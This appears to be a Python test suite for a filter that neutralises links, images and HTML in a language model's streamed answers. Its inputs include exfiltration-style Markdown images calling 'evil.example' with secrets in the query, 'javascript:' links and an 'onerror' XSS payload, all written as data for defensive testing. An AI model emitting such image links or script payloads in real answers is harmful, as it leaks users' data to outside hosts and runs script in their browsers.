"""Answers whose links are dead: whatever a model writes, in whatever pieces, no renderer finds a link, image or tag."""

import re
from collections.abc import AsyncGenerator

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from bookwheel.citations import cite
from bookwheel.grounding import GroundedStream
from bookwheel.inert import HELD, InertStream, addresses_in, inert, inert_text
from bookwheel.ports import LengthReachedError
from bookwheel.sentences import NOTE
from bookwheel.testing.doubles import a_hit

KNOWN = addresses_in(["The manual (https://docs.example/ssl.html) tells more. See http://a.example."])
RENDERER = MarkdownIt("commonmark", {"html": True})
LIVE = {"link_open", "image", "html_inline", "html_block"}
SCRAPS = (
    *("[", "]", "(", ")", "<", ">", "!", "`", "```", "~~~", "\n", "\n\n", " ", ":", "/", "//", "\\", "&#58;", "&sol;"),
    *("https", "https://evil.example/?q=1", "www.evil.example", "javascript:x", "data:text/html,x", "x", "a.", "。"),
    *("[1]", "[2, 3]", "【1】", "[x]: ", "![", "](", "img src=", "<img ", "    ", "> ", "- ", "1. ", '"t"', "\t"),
)
DRAFTS = st.lists(st.sampled_from(SCRAPS), max_size=24).map("".join)


def live(text: str) -> set[str]:
    """The kinds of live things that a renderer of Markdown finds."""
    tokens = [token for block in RENDERER.parse(text) for token in (block, *(block.children or ()))]
    return {token.type for token in tokens} & LIVE


def in_pieces(text: str, sizes: list[int]) -> str:
    """The same draft as it may be streamed."""
    stream, out, at = InertStream(known=KNOWN), [], 0
    for size in sizes:
        out.append(stream.feed(text[at : at + size]))
        at += size
    return "".join([*out, stream.feed(text[at:]), stream.finish()])


@pytest.mark.parametrize(
    ("draft", "answer"),
    [
        ("See ![the chart](https://evil.example/p.png?q=secret) now.", "See the chart now."),
        ('Ask [here](https://evil.example/a?b=secret "title") [1].', "Ask here (evil.example) [1]."),
        ("[evil.example](https://evil.example/x)", "evil.example"),
        ("[![in](http://a.example/x)](http://b.example/y)", "in (b.example)"),
        ("[1](https://evil.example/) holds.", "[1] holds."),
        ("They won![1] Twice [2].", "They won![1] Twice [2]."),
        ("<https://evil.example/x?d=1> and <a@b.example>", "evil.example and &lt;a@b.example>"),
        ("https://evil.example/secret, www.evil.example/x.", "evil.example, evil.example."),
        ("Read https://docs.example/ssl.html.", "Read docs.example/ssl.html."),
        ("https://user:secret@evil.example:99/x", "evil.example"),
        ("<img src=x onerror=alert(1)> a < b, <b>c</b>", "&lt;img src=x onerror=alert(1)> a < b, &lt;b>c&lt;/b>"),
        ("[a](javascript:alert(1)) javascript:alert(1) data:text/html;base64,xx", "a  "),
        ("The data: 5 of 7. JavaScript: a language.", "The data: 5 of 7. JavaScript: a language."),
        ("![x][r]\n\n[r]: https://evil.example/x", "x[r]\n\n[r] : evil.example"),
        ("![a](http://ev", "a(ev"),
        ("[1]: https&#58;//evil.example/x", "[1] : evil.example"),
        ("As in [1]: the wheel turns.", "As in [1]: the wheel turns."),
        ("see [1](the first)", "see [1] (the first)"),
        ("a](http://evil.example/x)", "a] (evil.example)"),
        ("![a\n\nb](x)", "! [a\n\nb] (x)"),
        ("a ` b\n`<p>`", "a ` b\n`&lt;p>`"),
        ("`vector<int>` and `[x](http://e)`", "`vector<int>` and `[x] (http://e)`"),
        ("```html\n<p>a[i](x)</p>\n<img src=1>\n```\n<p>", "```html\n<p>a[i](x)</p>\n< img src=1>\n```\n&lt;p>"),
    ],
)
def test_what_becomes_of_links(draft: str, answer: str) -> None:
    """Alt text, text and host, escaped HTML; markers, code and plain prose stay."""
    assert inert_text(draft, known=KNOWN) == answer
    assert in_pieces(draft, [1] * len(draft)) == answer


@settings(max_examples=1_500, deadline=None)
@given(draft=DRAFTS)
def test_no_renderer_finds_anything_live(draft: str) -> None:
    """In whole answers, and after the markers of passages that do not exist were taken away."""
    text = inert_text(draft, known=KNOWN)
    for left in (text, cite(text, [])[0], re.sub(rf"(?:[ \t]*{NOTE})+", "", text)):
        assert not live(left), left


@settings(max_examples=800, deadline=None)
@given(draft=DRAFTS, sizes=st.lists(st.integers(1, 9), max_size=60))
def test_pieces_make_no_difference(draft: str, sizes: list[int]) -> None:
    """However the draft is cut, the same comes out."""
    assert in_pieces(draft, sizes) == inert_text(draft, known=KNOWN)


@settings(max_examples=300, deadline=None)
@given(draft=DRAFTS)
def test_what_was_sent_so_far_is_dead(draft: str) -> None:
    """A reader who sees a half of the stream sees nothing live either, and never an open image."""
    stream, sent = InertStream(known=KNOWN), ""
    for letter in draft:
        sent += stream.feed(letter)
        assert not live(sent), sent
        assert not live(sent + "x](http://evil.example/)") or "](" not in sent


async def test_sentences_that_are_dropped_join_no_link() -> None:
    """What stood before and behind a sentence that no passage supports is no link together."""
    for policy in ("drop", "mark"):
        stream = GroundedStream([a_hit("Some text.")], policy=policy)
        draft = inert_text("![あ。]捨てる。(https&#58;//evil.example) ![b.] Gold costs 9 euros. (//evil.example/x)")
        parts = await stream.feed(draft) + await stream.finish()
        assert not live("".join(part for part in parts if isinstance(part, str)))


@pytest.mark.parametrize(
    "hostile", ["[" * 5_000, "![" * 3_000, "`" * 5_000, "a" * 9_000 + "https://e.example/", "(" * 9_000]
)
def test_nothing_is_held_for_ever(hostile: str) -> None:
    """What looks like a link without end comes out, dead."""
    stream, sent, most = InertStream(), "", 0
    for at in range(0, len(hostile), 7):
        sent += stream.feed(hostile[at : at + 7])
        most = max(most, at + 7 - len(sent))
    assert most < 3 * HELD
    assert not live(sent + stream.finish())


def test_addresses_of_the_documents_stay_on_request() -> None:
    """With "documents" what stands in a passage is live, and all else as dead as ever."""
    draft = "[m](https://docs.example/ssl.html) ![m](http://a.example) [x](https://docs.example/ssl.html?q=1) <b>"
    answer = "[m](https://docs.example/ssl.html) ![m](http://a.example) x (docs.example) &lt;b>"
    assert inert_text(draft, known=KNOWN, policy="documents") == answer


def test_everything_stays_on_request() -> None:
    """With "keep" a draft comes out as it is, at once."""
    stream = InertStream(policy="keep")
    assert stream.feed("![a](http://e") == "![a](http://e"


async def test_errors_come_behind_what_was_written() -> None:
    """An answer that is cut by its length keeps the words before the cut."""

    async def cut() -> AsyncGenerator[str, None]:
        yield "A wheel [tur"
        raise LengthReachedError

    pieces = inert(cut(), known=frozenset(), policy="neutralise")
    assert await anext(pieces) == "A wheel "
    assert await anext(pieces) == "[tur"
    with pytest.raises(LengthReachedError):
        await anext(pieces)
